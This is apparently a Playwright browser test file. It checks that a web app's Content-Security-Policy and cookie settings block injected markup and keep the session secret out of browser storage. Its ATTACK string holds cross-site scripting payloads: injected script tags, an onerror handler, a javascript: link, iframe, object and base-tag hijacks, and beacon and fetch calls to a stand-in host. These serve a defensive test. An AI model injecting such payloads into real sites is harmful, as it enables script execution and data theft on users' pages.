"""What the headers and cookies of docs/security.md do in a real browser."""

from collections.abc import Iterator
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from core import presets
from core.drafts import draft as drafts
from tests.browser.idle import wait_until_idle
from tests.browser.users import User
from ui.server.session_routes import cookie_name

pytestmark = pytest.mark.browser

PLAN: Final = "quiet plan"
PAGES: Final = ("/", "/library", "/compare", "/sweep", "/reference", "/rest", "/account")

# Where somebody has got markup into a page, against all that keeps it out.
ATTACK: Final = """async host => {
    const seen = new Set()
    const note = event => seen.add(event.effectiveDirective)
    document.addEventListener("securitypolicyviolation", note)
    const script = text => Object.assign(document.createElement("script"), text)
    document.body.append(script({textContent: "window.hacked = 1"}), script({src: host + "/a.js"}))
    document.body.insertAdjacentHTML("beforeend", `
        <img src="data:," onerror="window.hacked = 1"> <img src="${host}/beacon">
        <a id=trap href="javascript:window.hacked = 1">a</a> <iframe src="${host}/"></iframe>
        <object data="${host}/"></object> <base href="${host}/">`)
    document.getElementById("trap").click()
    await fetch(host + "/").catch(() => {})
    await new Promise(done => setTimeout(done, 500))
    return {seen: [...seen].sort(), hacked: "hacked" in window, base: document.baseURI}
}"""


@pytest.fixture
def unwatched(browser: Browser) -> Iterator[BrowserContext]:
    """A browser whose console may have errors: what a policy refuses is one."""
    context = browser.new_context()
    yield context
    context.close()


def test_a_script_that_gets_into_a_page_is_not_run(app_url: str, unwatched: BrowserContext) -> None:
    page, asked = unwatched.new_page(), []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto(app_url)
    wait_until_idle(page)
    found = page.evaluate(ATTACK, "http://127.0.0.1:9")
    assert found["hacked"] is False
    assert found["base"] == f"{app_url}/"
    assert set(found["seen"]) >= {
        *("script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"),
        *("object-src", "base-uri"),
    }
    assert [url for url in asked if not url.startswith((app_url, "data:", "blob:"))] == []


def test_a_browser_keeps_the_cookies_of_the_page_and_no_secret(user: User) -> None:
    user.bench.save(drafts.from_preset(presets.find("sft_toolbench")).renamed(PLAN))
    page = user.open("/")
    for path in PAGES:
        page.goto(user.app_url + path)
        wait_until_idle(page)
    expect(page.get_by_role("link", name=f"Account · {user.account.name}")).to_be_visible()
    kept: list[dict[str, Any]] = [dict(cookie) for cookie in page.context.cookies()]
    session = cookie_name(user.app_url)
    assert {cookie["name"] for cookie in kept} == {session, "_streamlit_xsrf"}
    xsrf = next(cookie for cookie in kept if cookie["name"] == "_streamlit_xsrf")
    assert (xsrf["sameSite"], xsrf["path"], xsrf["expires"]) == ("Lax", "/", -1)
    secret = next(cookie["value"] for cookie in kept if cookie["name"] == session)
    stored = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")
    for private in (secret, PLAN, user.account.name):
        assert private not in stored
    assert page.evaluate("indexedDB.databases().then(found => found.length)") == 0
